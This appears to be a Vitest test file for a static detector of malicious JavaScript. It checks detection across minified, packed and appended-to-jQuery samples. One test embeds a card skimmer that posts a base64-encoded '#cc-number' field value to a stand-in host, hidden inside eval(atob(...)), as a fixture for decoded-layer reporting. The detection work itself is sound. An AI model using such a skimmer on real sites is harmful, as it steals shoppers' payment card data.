import { minify } from 'terser'
import { describe, expect, it } from 'vitest'
import { analyzeScript, RULES_VERSION } from '../../detector/index.ts'
import { appended } from '../../fixtures/samples/dress.ts'
import { pack } from '../../fixtures/samples/packer.ts'
import { loadSamples, rewritable } from './detector/samples.ts'
import { LOADED_MACHINE } from './detector/slow.ts'

const samples = loadSamples()
const rank = { clean: 0, suspicious: 1, malicious: 2 } as const

describe('detector samples', LOADED_MACHINE, () => {
  it('has enough fixtures of each kind', () => {
    expect(samples.filter((s) => s.kind === 'malicious').length).toBeGreaterThanOrEqual(40)
    expect(samples.filter((s) => s.kind === 'benign').length).toBeGreaterThanOrEqual(15)
  })

  for (const s of samples) {
    it(`${s.name} → ${s.expected.verdict}`, () => {
      const v = analyzeScript(s.source, s.expected.ctx ?? {})
      const fired = v.findings.map((f) => f.rule)
      expect(v.verdict, JSON.stringify(v.findings, null, 1)).toBe(s.expected.verdict)
      for (const r of s.expected.rules) expect(fired, `${r} should fire`).toContain(r)
      for (const r of s.expected.notRules ?? [])
        expect(fired, `${r} should not fire`).not.toContain(r)
      expect(v.rulesVersion).toBe(RULES_VERSION)
      expect(v.score).toBe(
        Math.min(
          100,
          v.findings.reduce((n, f) => n + f.points, 0),
        ),
      )
      for (const f of v.findings) {
        expect(f.line).toBeGreaterThanOrEqual(1)
        expect(f.column).toBeGreaterThanOrEqual(0)
      }
      if (s.kind === 'benign') expect(v.verdict).not.toBe('malicious')
    })
  }

  for (const s of samples.filter((x) => x.kind === 'malicious' && rewritable(x))) {
    it(`${s.name} minified by terser is still detected`, async () => {
      const out = await minify(s.source, { compress: true, mangle: true })
      expect(out.code).toBeTruthy()
      const v = analyzeScript(out.code ?? '', s.expected.ctx ?? {})
      expect(rank[v.verdict], JSON.stringify(v.findings, null, 1)).toBeGreaterThanOrEqual(
        rank.suspicious,
      )
      expect(v.verdict).toBe(s.expected.verdict)
    })
  }

  for (const s of samples) {
    const test = s.expected.gaps?.appended ? it.fails : it
    test(`${s.name} appended to jquery.min.js keeps its class`, () => {
      const v = analyzeScript(appended(s.source), s.expected.ctx ?? {})
      if (s.kind === 'malicious')
        expect(rank[v.verdict], JSON.stringify(v.findings, null, 1)).toBeGreaterThanOrEqual(
          rank.suspicious,
        )
      else expect(v.verdict, JSON.stringify(v.findings, null, 1)).not.toBe('malicious')
    })
  }

  for (const s of samples) {
    it(`${s.name} packed with p,a,c,k,e,d keeps its class`, () => {
      const v = analyzeScript(pack(s.source), s.expected.ctx ?? {})
      const why = JSON.stringify(v.findings, null, 1)
      expect(v.findings.map((f) => f.rule)).toContain('packed-code')
      if (s.kind === 'malicious') expect(v.verdict, why).toBe(s.expected.verdict)
      else expect(v.verdict, why).not.toBe('malicious')
    })
  }

  it('judges a packed script by its payload, at the packer call, without the wrapper', () => {
    const inner = "document.title = 'hi'; console.log(location.href)"
    const v = analyzeScript(`var a = 1\n${pack(inner)}`)
    expect(v.verdict).toBe('clean')
    expect(v.score).toBe(0)
    const packed = v.findings.find((f) => f.rule === 'packed-code')
    expect(packed && [packed.line, packed.column, packed.severity]).toEqual([2, 5, 'info'])
  })

  it('still flags a packer whose payload cannot be unpacked statically', () => {
    const src = pack("document.title = 'hi'").replace(/'[^']*'\.split\('\|'\)/, 'words()')
    const v = analyzeScript(src)
    expect(v.findings.map((f) => f.rule)).toContain('dynamic-code-from-decoded')
    expect(v.findings.map((f) => f.rule)).not.toContain('packed-code')
  })

  it('reports findings from a decoded layer at the decoding expression', () => {
    const inner =
      "var x=new XMLHttpRequest();x.open('POST','https://a.test/c');x.send(btoa(document.querySelector('#cc-number').value))"
    const src = `var a = 1\n  eval(atob('${Buffer.from(inner).toString('base64')}'))\n`
    const v = analyzeScript(src)
    const layered = v.findings.filter((f) => f.message.includes('in decoded layer'))
    expect(layered.length).toBeGreaterThan(0)
    for (const f of layered) expect([f.line, f.column]).toEqual([2, 7])
  })
})
